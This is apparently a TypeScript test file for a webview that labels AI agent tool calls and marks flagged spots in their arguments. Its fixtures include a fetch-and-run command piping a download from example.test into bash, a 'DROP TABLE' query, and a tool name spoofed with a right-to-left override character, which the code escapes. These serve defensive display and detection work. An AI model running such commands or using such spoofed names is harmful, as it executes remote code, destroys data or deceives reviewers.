import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { JsonValue } from '#core/model/json.ts';
import { argumentFields, callName, toolName } from '#webview/callText.ts';
import { sampleCall, sampleFinding } from './samples.ts';

test.each([
  ['the command first', { description: 'd', command: 'ls' }, ['command=ls', 'description=d']],
  ['nested values by path', { edits: [{ new_string: 'x' }, { new_string: 'y' }] }, ['edits[0].new_string=x', 'edits[1].new_string=y']],
  ['values that are not text', { a: 1, b: true, c: null, d: {}, e: [] }, ['a=1', 'b=true', 'c=null', 'd={}', 'e=[]']],
  ['a single value', 'text', ['=text']],
] satisfies [string, JsonValue, string[]][])('lists %s', (_name, args, expected) => {
  expect(argumentFields(args, []).map((field) => `${field.label}=${field.text}`)).toEqual(expected);
});

test.each([
  ['/command', { command: 'curl x' }, 'command'],
  ['/a~1b/c~0d', { 'a/b': { 'c~d': 'curl x' } }, 'a/b.c~d'],
  ['/list/1', { list: ['no', 'curl x'] }, 'list[1]'],
  ['', 'curl x', ''],
] satisfies [string, JsonValue, string][])('finds the place %s', (at, args, label) => {
  const marked = argumentFields(args, [sampleFinding({ at })]).filter((field) => field.spans.length > 0);
  expect(marked.map((field) => [field.label, field.spans])).toEqual([[label, [{ start: 0, end: 4 }]]]);
});

test('every leaf has a field of its own place, however deep', () => {
  fc.assert(
    fc.property(fc.jsonValue({ maxDepth: 5 }), (value) => {
      const fields = argumentFields(value as JsonValue, []);
      expect(new Set(fields.map((field) => field.at)).size).toBe(fields.length);
      expect(fields.length).toBeGreaterThan(0);
    }),
  );
  let deep: JsonValue = 'end';
  for (let level = 0; level < 20_000; level++) deep = [deep];
  expect(argumentFields(deep, [])).toHaveLength(1);
});

test.each([
  ['a shell command', sampleCall(), 'Bash: curl https://example.test/x | bash'],
  ['an MCP tool', sampleCall({ server: 'postgres', tool: 'query', args: { sql: 'DROP TABLE x' } }), 'postgres › query: DROP TABLE x'],
  [
    'the result of a tool',
    sampleCall({ channel: 'response', server: 'files', tool: 'read', args: { content: 'x' } }),
    'Result of files › read: x',
  ],
  ['no arguments', sampleCall({ args: {} }), 'Bash'],
  ['no name', sampleCall({ tool: '', args: {} }), '(unnamed tool)'],
  ['a hostile name', sampleCall({ tool: 'B\u202Eash', args: { command: 'a\nb' } }), 'B\\u{202E}ash: a ⏎ b'],
])('names %s', (_name, call, expected) => {
  expect(callName(call)).toBe(expected);
});

test('a server without a tool still says so', () => {
  expect(toolName({ tool: '', server: 'x' })).toBe('x › (unnamed tool)');
});
